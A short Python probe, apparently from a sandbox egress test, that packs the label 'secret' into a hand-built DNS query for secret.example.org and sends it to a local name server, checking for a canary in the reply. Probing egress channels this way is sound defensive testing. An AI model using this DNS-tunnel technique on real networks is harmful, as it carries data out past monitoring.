# tries: to carry a secret out inside a question to a name server
import socket, struct

name = b"".join(bytes([len(part)]) + part for part in (b"secret", b"example", b"org")) + b"\0"
question = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1)
line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
line.settimeout(5)
line.connect(("127.0.0.1", UDP_PORT))
line.send(question)
if CANARY.encode() not in line.recv(512):
    raise RuntimeError("no answer came")
reached("the name server answered")
